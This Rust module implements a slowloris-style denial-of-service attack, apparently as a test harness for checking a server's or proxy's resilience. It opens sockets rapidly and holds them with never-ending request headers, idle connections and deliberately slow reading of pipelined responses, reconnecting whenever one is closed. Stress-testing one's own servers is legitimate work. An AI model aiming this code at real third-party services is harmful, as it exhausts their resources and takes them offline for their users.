//! Slow sockets: they cost whoever opens them nearly nothing, and are meant to cost the other side more.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use socket2::SockRef;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{Instant, sleep, timeout};
use tokio_util::sync::CancellationToken;

/// How many sockets are opened a second.
const RAMP: u32 = 1000;

/// How long a slow socket waits until it does a little again, or until it comes back after it was cut, on average.
const PAUSE_MS: u64 = 2000;

/// What a segment holds on the networks that attacks come from.
const ETHERNET: u32 = 1448;

/// An attack that goes on until it is dropped, on a thread of its own.
pub(super) struct Attack {
    sockets: u32,
    open: Arc<AtomicUsize>,
    end: CancellationToken,
}

impl Attack {
    /// Opens so many sockets, one after the other, and keeps up their number.
    pub(super) fn begin(victim: SocketAddr, sockets: u32) -> Self {
        let attack = Self {
            sockets,
            open: Arc::default(),
            end: CancellationToken::new(),
        };
        let (open, end) = (Arc::clone(&attack.open), attack.end.clone());
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        std::thread::spawn(move || {
            runtime.block_on(async {
                for number in 0..sockets {
                    tokio::spawn(hold(Kind::of(number), victim, Arc::clone(&open)));
                    if number % (RAMP / 100) == 0 {
                        sleep(Duration::from_millis(10)).await;
                    }
                }
                end.cancelled().await;
            });
        });
        attack
    }

    /// Waits until nearly all sockets are open at once, or until it is clear that the victim does not let them.
    pub(super) async fn is_under_way(&self) {
        let end = Instant::now()
            + Duration::from_secs(5)
            + 2 * Duration::from_secs(1) * self.sockets / RAMP;
        while self.open() * 20 < self.sockets as usize * 19 && Instant::now() < end {
            sleep(Duration::from_millis(50)).await;
        }
    }

    /// How many sockets are open.
    pub(super) fn open(&self) -> usize {
        self.open.load(Ordering::Relaxed)
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.end.cancel();
    }
}

/// How a socket is slow.
#[derive(Clone, Copy)]
enum Kind {
    /// Its request's head never ends.
    Head,
    /// It says nothing.
    Idle,
    /// It asks and asks, and hardly reads what is answered.
    Reader,
}

impl Kind {
    /// Half of them are slow heads, a tenth slow readers.
    fn of(number: u32) -> Self {
        match number % 10 {
            0 => Self::Reader,
            1..=5 => Self::Head,
            _ => Self::Idle,
        }
    }

    /// Is slow until the other side has had enough.
    async fn be_slow(self, stream: &mut TcpStream) -> io::Result<()> {
        match self {
            Self::Head => be_a_slow_head(stream).await,
            Self::Idle => stream.read(&mut [0]).await.map(drop),
            Self::Reader => be_a_slow_reader(stream).await,
        }
    }
}

/// Holds a socket, and opens it anew whenever it was closed.
async fn hold(kind: Kind, victim: SocketAddr, open: Arc<AtomicUsize>) {
    loop {
        if let Ok(mut stream) = connect(victim).await {
            open.fetch_add(1, Ordering::Relaxed);
            // It ends as soon as the other side closes, which is what this waits for.
            drop(kind.be_slow(&mut stream).await);
            open.fetch_sub(1, Ordering::Relaxed);
        }
        pause().await;
    }
}

async fn connect(victim: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    // Loopback would let the other side put more than a megabyte of answers on its way at once.
    SockRef::from(&socket).set_tcp_mss(ETHERNET)?;
    // Little room for answers, so that they stay at the other side.
    socket.set_recv_buffer_size(2048)?;
    socket.connect(victim).await
}

async fn be_a_slow_head(stream: &mut TcpStream) -> io::Result<()> {
    stream
        .write_all(b"DELETE /bigin/v2/Contacts/1/photo HTTP/1.1\r\nHost: a\r\n")
        .await?;
    loop {
        pause().await;
        stream.write_all(b"X: a\r\n").await?;
    }
}

/// What it asks for is answered without Zoho.
async fn be_a_slow_reader(stream: &mut TcpStream) -> io::Result<()> {
    let requests = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n".repeat(20);
    loop {
        // As many as the other side takes.
        while let Ok(written) =
            timeout(Duration::from_millis(PAUSE_MS), stream.write_all(&requests)).await
        {
            written?;
        }
        if stream.read(&mut [0; 32]).await? == 0 {
            return Ok(());
        }
    }
}

async fn pause() {
    sleep(Duration::from_millis(fastrand::u64(
        PAUSE_MS / 2..PAUSE_MS * 3 / 2,
    )))
    .await;
}
